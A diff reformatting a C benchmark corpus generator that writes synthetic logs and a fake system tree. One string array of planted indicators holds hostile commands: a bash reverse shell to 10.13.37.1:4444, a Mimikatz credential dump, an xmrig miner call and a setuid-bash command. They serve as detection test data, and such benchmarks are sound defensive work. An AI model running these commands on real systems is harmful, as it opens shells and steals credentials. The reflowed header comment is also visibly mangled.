@@ -1,9 +1,11 @@
-// Deterministic benchmark corpus generator (compiled at run time by bench/run.py; see bench/README.md).
+// Deterministic benchmark corpus generator (compiled at run time by bench/run.py; see
+// bench/README.md).
 //
 //   gen random DIR BYTES SEED NFILES   incompressible files big-NN.bin, BYTES in total
-//   gen logs   DIR BYTES SEED          syslog / auth.log / nginx access+error logs, ~5-10x compressible
-//   gen small  DIR COUNT SEED          COUNT files of 1-16 KiB in two levels of nested directories
-//   gen system DIR BYTES SEED          a system-like tree: ELF-like binaries, libraries, configs,
+//   gen logs   DIR BYTES SEED          syslog / auth.log / nginx access+error logs, ~5-10x
+//   compressible gen small  DIR COUNT SEED          COUNT files of 1-16 KiB in two levels of nested
+//   directories gen system DIR BYTES SEED          a system-like tree: ELF-like binaries,
+//   libraries, configs,
 //                                      logs, scripts, compressed docs, symlinks, a few planted IOCs
 //
 // The same arguments always give the same bytes: one xoshiro256** stream seeded from SEED, fixed
@@ -38,7 +40,9 @@ static void die(const char* fmt, ...) {
 
 static uint64_t rng_state[4];
 
-static uint64_t rotl(uint64_t x, int k) { return (x << k) | (x >> (64 - k)); }
+static uint64_t rotl(uint64_t x, int k) {
+  return (x << k) | (x >> (64 - k));
+}
 
 static void rng_seed(uint64_t seed) {
   for (int i = 0; i < 4; i++) {
@@ -63,8 +67,12 @@ static uint64_t rng64(void) {
 }
 
 // Uniform in [0, n); the modulo bias is irrelevant for test data.
-static uint32_t rnd(uint32_t n) { return (uint32_t)((rng64() >> 32) % n); }
-static uint64_t rnd_range(uint64_t lo, uint64_t hi) { return lo + rng64() % (hi - lo + 1); }
+static uint32_t rnd(uint32_t n) {
+  return (uint32_t)((rng64() >> 32) % n);
+}
+static uint64_t rnd_range(uint64_t lo, uint64_t hi) {
+  return lo + rng64() % (hi - lo + 1);
+}
 #define PICK(arr) ((arr)[rnd(ARRAY_LEN(arr))])
 
 // ---- buffered output ---------------------------------------------------------------------------
@@ -152,30 +160,48 @@ static void make_dirs(const char* path) {
 
 // ---- vocabulary shared by the log and tree generators ------------------------------------------
 
-static const char* kUsers[] = {"root", "alice", "bob", "deploy", "backup", "www-data", "postgres",
-                               "jenkins", "ubuntu", "admin", "carol", "dave", "git", "nagios"};
-static const char* kBadUsers[] = {"admin", "test", "oracle", "user", "guest", "pi", "ftpuser",
-                                  "support", "ubnt", "hadoop", "mysql", "steam", "minecraft"};
+static const char* kUsers[] = {"root",     "alice",    "bob",     "deploy", "backup",
+                               "www-data", "postgres", "jenkins", "ubuntu", "admin",
+                               "carol",    "dave",     "git",     "nagios"};
+static const char* kBadUsers[] = {"admin", "test",    "oracle",   "user", "guest",
+                                  "pi",    "ftpuser", "support",  "ubnt", "hadoop",
+                                  "mysql", "steam",   "minecraft"};
 static const char* kHosts[] = {"web01", "web02", "db01", "bastion", "build07", "cache03"};
-static const char* kPaths[] = {"/", "/index.html", "/api/v1/orders", "/api/v1/users", "/login",
-                               "/static/css/site.css", "/static/js/app.js", "/favicon.ico",
-                               "/api/v1/search", "/healthz", "/images/logo.png", "/wp-login.php",
-                               "/robots.txt", "/api/v2/metrics", "/cart", "/checkout"};
+static const char* kPaths[] = {"/",
+                               "/index.html",
+                               "/api/v1/orders",
+                               "/api/v1/users",
+                               "/login",
+                               "/static/css/site.css",
+                               "/static/js/app.js",
+                               "/favicon.ico",
+                               "/api/v1/search",
+                               "/healthz",
+                               "/images/logo.png",
+                               "/wp-login.php",
+                               "/robots.txt",
+                               "/api/v2/metrics",
+                               "/cart",
+                               "/checkout"};
 static const char* kAgents[] = {
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/119.0.0.0 Safari/537.36",
     "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
     "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
     "Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
-    "curl/7.88.1", "python-requests/2.31.0", "Go-http-client/1.1",
+    "curl/7.88.1",
+    "python-requests/2.31.0",
+    "Go-http-client/1.1",
     "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"};
 static const char* kReferrers[] = {"-", "https://www.example.com/", "https://www.google.com/",
                                    "https://shop.example.com/cart", "https://news.example.org/"};
-static const char* kUnits[] = {"apt-daily.service", "logrotate.service", "man-db.service",
-                               "systemd-tmpfiles-clean.service", "fstrim.service",
-                               "phpsessionclean.service", "certbot.service", "sysstat-collect.service"};
-static const char* kSyllables[] = {"ka", "zo", "mi", "lex", "tor", "vin", "ra", "sul", "bex", "dri",
-                                   "fo", "gal", "net", "pri", "qu", "sto", "tra", "ux", "wel", "yon"};
+static const char* kUnits[] = {"apt-daily.service", "logrotate.service",
+                               "man-db.service",    "systemd-tmpfiles-clean.service",
+                               "fstrim.service",    "phpsessionclean.service",
+                               "certbot.service",   "sysstat-collect.service"};
+static const char* kSyllables[] = {"ka",  "zo",  "mi",  "lex", "tor", "vin", "ra",
+                                   "sul", "bex", "dri", "fo",  "gal", "net", "pri",
+                                   "qu",  "sto", "tra", "ux",  "wel", "yon"};
 
 static const char* const kMonths[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                       "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
@@ -231,9 +257,10 @@ static void syslog_line(Out* o, LogClock* c, const char* host) {
                  rnd(1u << 31));
       break;
     case 3:
-      out_printf(o, "kernel: [%u.%06u] audit: type=1400 audit(%ld.%03u:%u): apparmor=\"DENIED\" "
-                    "operation=\"open\" profile=\"snap.%s\" name=\"/proc/%u/mounts\" pid=%u "
-                    "comm=\"%s\" requested_mask=\"r\" denied_mask=\"r\" fsuid=0 ouid=0\n",
+      out_printf(o,
+                 "kernel: [%u.%06u] audit: type=1400 audit(%ld.%03u:%u): apparmor=\"DENIED\" "
+                 "operation=\"open\" profile=\"snap.%s\" name=\"/proc/%u/mounts\" pid=%u "
+                 "comm=\"%s\" requested_mask=\"r\" denied_mask=\"r\" fsuid=0 ouid=0\n",
                  rnd(900000), rnd(1000000), (long)c->now, rnd(1000), rnd(9000), PICK(kSyllables),
                  rnd(30000), rnd(30000), PICK(kUsers));
       break;
@@ -241,17 +268,19 @@ static void syslog_line(Out* o, LogClock* c, const char* host) {
       out_printf(o, "systemd[1]: %s: Deactivated successfully.\n", PICK(kUnits));
       break;
     case 5:
-      out_printf(o, "dockerd[%u]: time=\"%04d-%02d-%02dT%02d:%02d:%02d.%09uZ\" level=info "
-                    "msg=\"ignoring event\" container=%016llx%016llx module=libcontainerd "
-                    "namespace=moby topic=/tasks/delete type=\"*events.TaskDelete\"\n",
+      out_printf(o,
+                 "dockerd[%u]: time=\"%04d-%02d-%02dT%02d:%02d:%02d.%09uZ\" level=info "
+                 "msg=\"ignoring event\" container=%016llx%016llx module=libcontainerd "
+                 "namespace=moby topic=/tasks/delete type=\"*events.TaskDelete\"\n",
                  800 + rnd(10), c->tm.tm_year + 1900, c->tm.tm_mon + 1, c->tm.tm_mday,
                  c->tm.tm_hour, c->tm.tm_min, c->tm.tm_sec, rnd(1000000000),
                  (unsigned long long)(rnd(64) * 0x9e3779b97f4a7c15ull),
                  (unsigned long long)(rnd(64) * 0xc2b2ae3d27d4eb4full));
       break;
     case 6:
-      out_printf(o, "rsyslogd: [origin software=\"rsyslogd\" swVersion=\"8.2302.0\" x-pid=\"%u\" "
-                    "x-info=\"https://www.rsyslog.com\"] rsyslogd was HUPed\n",
+      out_printf(o,
+                 "rsyslogd: [origin software=\"rsyslogd\" swVersion=\"8.2302.0\" x-pid=\"%u\" "
+                 "x-info=\"https://www.rsyslog.com\"] rsyslogd was HUPed\n",
                  500 + rnd(50));
       break;
     default:
@@ -268,8 +297,9 @@ static void auth_line(Out* o, LogClock* c, const char* host) {
   switch (rnd(7)) {
     case 0:
       random_ipv4(ip, sizeof ip, 0);
-      out_printf(o, "sshd[%u]: Accepted publickey for %s from %s port %u ssh2: ED25519 "
-                    "SHA256:k%02uQz3yV8dLwN5mYbX0pT7rH2fJ9sA4cE6gU1iO%02u\n",
+      out_printf(o,
+                 "sshd[%u]: Accepted publickey for %s from %s port %u ssh2: ED25519 "
+                 "SHA256:k%02uQz3yV8dLwN5mYbX0pT7rH2fJ9sA4cE6gU1iO%02u\n",
                  pid, PICK(kUsers), ip, 32768 + rnd(28000), rnd(20), rnd(20));
       break;
     case 1:
@@ -279,8 +309,9 @@ static void auth_line(Out* o, LogClock* c, const char* host) {
                  PICK(kBadUsers), ip, 32768 + rnd(28000));
       break;
     case 3:
-      out_printf(o, "sshd[%u]: pam_unix(sshd:session): session opened for user %s(uid=%u) by "
-                    "(uid=0)\n",
+      out_printf(o,
+                 "sshd[%u]: pam_unix(sshd:session): session opened for user %s(uid=%u) by "
+                 "(uid=0)\n",
                  pid, PICK(kUsers), 1000 + rnd(14));
       break;
     case 4:
@@ -311,18 +342,20 @@ static void access_line(Out* o, LogClock* c) {
     snprintf(path, sizeof path, "%s/%u?page=%u", base, rnd(50000), rnd(20));
   else
     snprintf(path, sizeof path, "%s", base);
-  out_printf(o, "%s - - [%02d/%s/%04d:%02d:%02d:%02d +0000] \"%s %s HTTP/1.1\" %u %u \"%s\" \"%s\"\n",
+  out_printf(o,
+             "%s - - [%02d/%s/%04d:%02d:%02d:%02d +0000] \"%s %s HTTP/1.1\" %u %u \"%s\" \"%s\"\n",
              ip, c->tm.tm_mday, kMonths[c->tm.tm_mon], c->tm.tm_year + 1900, c->tm.tm_hour,
-             c->tm.tm_min, c->tm.tm_sec, method, path, status,
-             status == 304 ? 0 : 200 + rnd(60000), PICK(kReferrers), PICK(kAgents));
+             c->tm.tm_min, c->tm.tm_sec, method, path, status, status == 304 ? 0 : 200 + rnd(60000),
+             PICK(kReferrers), PICK(kAgents));
 }
 
 static void error_line(Out* o, LogClock* c) {
   char ip[32];
   random_ipv4(ip, sizeof ip, 1);
-  out_printf(o, "%04d/%02d/%02d %02d:%02d:%02d [error] %u#%u: *%u open() \"/var/www/html%s\" "
-                "failed (2: No such file or directory), client: %s, server: www.example.com, "
-                "request: \"GET %s HTTP/1.1\", host: \"www.example.com\"\n",
+  out_printf(o,
+             "%04d/%02d/%02d %02d:%02d:%02d [error] %u#%u: *%u open() \"/var/www/html%s\" "
+             "failed (2: No such file or directory), client: %s, server: www.example.com, "
+             "request: \"GET %s HTTP/1.1\", host: \"www.example.com\"\n",
              c->tm.tm_year + 1900, c->tm.tm_mon + 1, c->tm.tm_mday, c->tm.tm_hour, c->tm.tm_min,
              c->tm.tm_sec, 1000 + rnd(8), rnd(4), rnd(900000), PICK(kPaths), ip, PICK(kPaths));
 }
@@ -338,10 +371,18 @@ static void write_log(const char* path, enum LogKind kind, uint64_t bytes) {
   while (o->total < bytes) {
     clock_tick(&c);
     switch (kind) {
-      case LOG_SYSLOG: syslog_line(o, &c, host); break;
-      case LOG_AUTH: auth_line(o, &c, host); break;
-      case LOG_ACCESS: access_line(o, &c); break;
-      default: error_line(o, &c); break;
+      case LOG_SYSLOG:
+        syslog_line(o, &c, host);
+        break;
+      case LOG_AUTH:
+        auth_line(o, &c, host);
+        break;
+      case LOG_ACCESS:
+        access_line(o, &c);
+        break;
+      default:
+        error_line(o, &c);
+        break;
     }
   }
   out_close(o);
@@ -389,17 +430,25 @@ static void gen_random(const char* dir, uint64_t bytes, unsigned files) {
 
 // Text that compresses like configuration or source: known words, some numbers.
 static void out_text(Out* o, uint64_t bytes) {
-  static const char* kWords[] = {"server", "listen", "include", "return", "if", "then", "fi",
-                                 "export", "PATH", "user", "group", "timeout", "enable", "true",
-                                 "false", "local", "echo", "config", "path", "value", "default"};
+  static const char* kWords[] = {"server", "listen", "include", "return", "if",    "then",
+                                 "fi",     "export", "PATH",    "user",   "group", "timeout",
+                                 "enable", "true",   "false",   "local",  "echo",  "config",
+                                 "path",   "value",  "default"};
   uint64_t end = o->total + bytes;
   while (o->total + 64 < end) {
     switch (rnd(4)) {
-      case 0: out_printf(o, "%s_%s = %u\n", PICK(kWords), PICK(kWords), rnd(100000)); break;
-      case 1: out_printf(o, "  %s %s %s;\n", PICK(kWords), PICK(kWords), PICK(kSyllables)); break;
-      case 2: out_printf(o, "# %s the %s for %s\n", PICK(kWords), PICK(kWords), PICK(kUsers)); break;
-      default: out_printf(o, "%s=\"/usr/lib/%s%s\"\n", PICK(kWords), PICK(kSyllables),
-                          PICK(kSyllables)); break;
+      case 0:
+        out_printf(o, "%s_%s = %u\n", PICK(kWords), PICK(kWords), rnd(100000));
+        break;
+      case 1:
+        out_printf(o, "  %s %s %s;\n", PICK(kWords), PICK(kWords), PICK(kSyllables));
+        break;
+      case 2:
+        out_printf(o, "# %s the %s for %s\n", PICK(kWords), PICK(kWords), PICK(kUsers));
+        break;
+      default:
+        out_printf(o, "%s=\"/usr/lib/%s%s\"\n", PICK(kWords), PICK(kSyllables), PICK(kSyllables));
+        break;
     }
   }
   while (o->total < end) out_write(o, "\n", 1);
@@ -424,13 +473,13 @@ static void out_code(Out* o, uint64_t bytes) {
 
 // An ELF-looking file: a real ELF64 header, "code", then a string table (plus an optional IOC).
 static void out_elf(Out* o, uint64_t bytes, const char* ioc) {
-  static const uint8_t kHeader[64] = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0,
-                                      3,    0,   0x3e, 0, 1, 0, 0, 0, 0x40, 0x10, 0, 0, 0, 0, 0, 0,
-                                      0x40, 0,   0,   0, 0, 0, 0, 0, 0,    0,    0, 0, 0, 0, 0, 0,
-                                      0,    0,   0,   0, 0x40, 0, 0x38, 0, 13, 0, 0x40, 0, 31, 0, 30, 0};
-  static const char* kSymbols[] = {"malloc", "free", "memcpy", "printf", "__libc_start_main",
-                                   "pthread_create", "open64", "read", "write", "strlen",
-                                   "GLIBC_2.34", "GLIBC_2.2.5", "__cxa_finalize", "getenv"};
+  static const uint8_t kHeader[64] = {
+      0x7f, 'E', 'L',  'F',  2, 1, 1, 0, 0,    0, 0,    0, 0,  0, 0,    0, 3,  0, 0x3e, 0, 1, 0,
+      0,    0,   0x40, 0x10, 0, 0, 0, 0, 0,    0, 0x40, 0, 0,  0, 0,    0, 0,  0, 0,    0, 0, 0,
+      0,    0,   0,    0,    0, 0, 0, 0, 0x40, 0, 0x38, 0, 13, 0, 0x40, 0, 31, 0, 30,   0};
+  static const char* kSymbols[] = {
+      "malloc", "free",  "memcpy", "printf",     "__libc_start_main", "pthread_create", "open64",
+      "read",   "write", "strlen", "GLIBC_2.34", "GLIBC_2.2.5",       "__cxa_finalize", "getenv"};
   if (bytes < 512) bytes = 512;
   out_write(o, kHeader, sizeof kHeader);
   uint64_t strings = bytes / 8;
@@ -488,7 +537,9 @@ static const char* kIocs[] = {"bash -i >& /dev/tcp/10.13.37.1/4444 0>&1",
                               "sekurlsa::logonpasswords", "xmrig --donate-level=1",
                               "chmod +s /bin/bash", "/tmp/.X11-unix/.rsync/c/kswapd0"};
 
-static const char* maybe_ioc(void) { return rnd(200) == 0 ? PICK(kIocs) : NULL; }
+static const char* maybe_ioc(void) {
+  return rnd(200) == 0 ? PICK(kIocs) : NULL;
+}
 
 static uint64_t binary_size(void) {
   // Mostly 4-96 KiB, a few up to 4 MiB, like /usr/bin.
@@ -578,8 +629,9 @@ static uint64_t parse_u64(const char* s) {
 
 int main(int argc, char** argv) {
   if (argc < 5) {
-    fprintf(stderr, "usage: gen random DIR BYTES SEED NFILES | gen logs DIR BYTES SEED |\n"
-                    "       gen small DIR COUNT SEED | gen system DIR BYTES SEED\n");
+    fprintf(stderr,
+            "usage: gen random DIR BYTES SEED NFILES | gen logs DIR BYTES SEED |\n"
+            "       gen small DIR COUNT SEED | gen system DIR BYTES SEED\n");
     return 2;
   }
   umask(022);
